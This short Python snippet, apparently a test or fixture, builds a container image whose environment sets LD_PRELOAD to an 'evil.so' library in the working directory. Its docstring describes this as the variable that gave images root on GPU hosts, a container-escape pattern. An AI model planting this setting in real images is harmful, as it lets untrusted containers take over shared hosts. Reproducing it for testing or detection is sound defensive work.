"""The variable that gave images root on hosts with a GPU."""


def upload(kit):
    return kit.image(settings={"Env": ["LD_PRELOAD=/proc/self/cwd/evil.so"]}).tar()
